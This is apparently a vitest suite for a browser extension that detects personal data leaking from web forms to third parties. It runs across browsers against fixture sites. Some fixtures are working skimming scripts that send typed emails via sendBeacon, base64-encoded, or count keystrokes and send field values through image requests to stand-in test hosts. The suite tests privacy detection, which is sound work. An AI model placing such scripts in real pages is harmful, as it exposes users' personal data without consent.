import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { look, stateOf } from "../../cli/look.ts";
import { askWorker } from "../../cli/session.ts";
import { browsers, openStage, type Stage } from "./sessions.ts";

const options = { fill: "alex", submit: true, wait: 1200, screenshot: null } as const;
const email = `<label>E-mail <input name="mail" type="email"></label><button>Send</button>`;

describe.each(browsers)("a form that is sent, in %s", (browser) => {
  let stage: Stage;
  beforeAll(async () => {
    stage = await openStage(browser);
    const { sites } = stage;
    sites.put("*/thanks", "<!doctype html><title>Thanks</title><p>Thank you.");
  });
  afterAll(() => stage?.close());

  const sentFrom = async (site: string, html: string) => {
    stage.sites.put(`${site}/`, `<!doctype html><title>Sign up</title>${html}`);
    const { report } = await look(stage.session, `http://${site}/`, options);
    expect(report.site).toBe(site);
    return report.sent.map(({ host, channel, encoding, when, confidence }) =>
      [host, channel, ...encoding, when, confidence].join(" "),
    );
  };

  test("to another company, although the page is gone then", async () => {
    const form = (method: string) =>
      `<form method="${method}" action="http://in.forms.test/thanks">${email}</form>`;
    expect(await sentFrom("post.example", form("post"))).toEqual([
      "in.forms.test body after-submit saw",
    ]);
    expect(await sentFrom("get.example", form("get"))).toEqual([
      "in.forms.test url percent after-submit saw",
    ]);
  });

  test("in a frame, which shows another page then: what it asked and what was typed is told all the same", async () => {
    stage.sites.put(
      "news.letter.test/join",
      `<!doctype html><title>Join</title><form action="/thanks" method="post">${email}</form>`,
    );
    stage.sites.put(
      "paper.example/",
      `<!doctype html><title>Paper</title><iframe src="http://news.letter.test/join"></iframe>`,
    );
    const { report } = await look(stage.session, "http://paper.example/", options);
    const { asked, typed } = report;
    expect(asked.map(({ kind, frame }) => [kind, frame])).toEqual([
      ["email-address", "http://news.letter.test/"],
    ]);
    expect(typed).toEqual(["email-address"]);
  });

  test("by a script that puts the next step in its place: what both ask is told", async () => {
    stage.sites.put(
      "steps.example/",
      `<!doctype html><title>Quote</title><form id="form"><p>${email}</form><script>
        form.onsubmit = (event) => {
          event.preventDefault();
          form.innerHTML = '<label>Date of birth <input name="dob"></label><button>Send</button>';
        };
      </script>`,
    );
    const { report } = await look(stage.session, "http://steps.example/", options);
    expect(report.asked.map(({ kind, visible }) => [kind, visible])).toEqual([
      ["birth-date", true],
      ["email-address", false],
    ]);
  });

  test("to the page's own site, from where another company gets it on the way or afterwards", async () => {
    stage.sites.put("own.example/go", {
      body: "",
      type: "text/html",
      status: 302,
      headers: { location: "http://in.hop.test/thanks?m=alex.rivers%40mail.example" },
    });
    const hop = await sentFrom("own.example", `<form action="/go">${email}</form>`);
    expect(hop).toEqual(["in.hop.test url percent after-submit saw"]);
    stage.sites.put(
      "told.example/list",
      `<title>Thanks</title><meta name="referrer" content="unsafe-url"><img src="http://px.seen.test/p.gif">`,
    );
    const told = await sentFrom("told.example", `<form action="/list">${email}</form>`);
    // Firefox tells other sites no more than where somebody comes from, whatever a page allows.
    expect(told).toEqual(
      browser === "firefox" ? [] : ["px.seen.test referer percent after-submit saw"],
    );
  });

  test("to the page's own site, while a script of another company tells on as the page goes", async () => {
    stage.sites.put("cdn.late.test/l.js", {
      body: `addEventListener("pagehide", () => {
        const { value } = document.querySelector("[type=email]");
        navigator.sendBeacon("http://in.late.test/b", btoa(value));
        navigator.sendBeacon("http://blob.late.test/b", new Blob([JSON.stringify({ value })], { type: "application/json" }));
        navigator.sendBeacon("http://nothing.late.test/b");
      })`,
      type: "text/javascript",
    });
    const late = await sentFrom(
      "late.example",
      `<form action="/thanks" method="post">${email}</form><script src="http://cdn.late.test/l.js"></script>`,
    );
    expect(late.sort()).toEqual([
      "blob.late.test body after-submit saw",
      "in.late.test body base64 after-submit saw",
    ]);
  });

  test("to the page's own site alone: nobody else got anything", async () => {
    const own = await sentFrom(
      "calm.example",
      `<form action="/thanks" method="post">${email}</form>`,
    );
    expect(own).toEqual([]);
  });

  test("the extension itself types a made-up person, key by key, and what becomes of it is seen", async () => {
    stage.sites.put(
      "try.example/",
      `<!doctype html><title>Try</title><form>${email}<label>Full name <input name="n" autocomplete="name"></label>
      <label>Country <select autocomplete="country"><option>?<option>France<option>United Kingdom</select></label>
      <label>Date of birth <input type="date" autocomplete="bday"></label></form>
      <script src="http://cdn.keys.test/k.js"></script>`,
    );
    stage.sites.put("cdn.keys.test/k.js", {
      body: `let keys = 0; addEventListener("keydown", () => { keys += 1; });
        addEventListener("change", ({ target }) => new Image().src = "http://in.keys.test/p.gif?" + keys + "&v=" + target.value);`,
      type: "text/javascript",
    });
    const page = await stage.session.open("http://try.example/", 20_000);
    const report = async () => (await stateOf(stage.session, page.tab)).report;
    await expect.poll(async () => (await report())?.asked.length, { timeout: 5000 }).toBe(4);
    const fill = { type: "fill-in", data: { tab: page.tab, person: "amina" } };
    expect(await stage.session.desk.evaluate(askWorker, fill)).toEqual({ fields: 4 });
    const values = () =>
      page.evaluate(
        () =>
          Array.from(
            document.querySelectorAll("input, select"),
            (field) => (field as HTMLInputElement).value,
          ),
        null,
      );
    await expect
      .poll(values, { timeout: 8000 })
      .toEqual(["amina.nowak@mail.example", "Amina Nowak", "United Kingdom", "1957-03-23"]);
    await expect
      .poll(async () => (await report())?.sent.map(({ kind }) => kind), { timeout: 5000 })
      .toEqual(expect.arrayContaining(["email-address", "person-name"]));
    expect((await report())?.verdict.level).toBe(3);
    await page.close();
  });
});
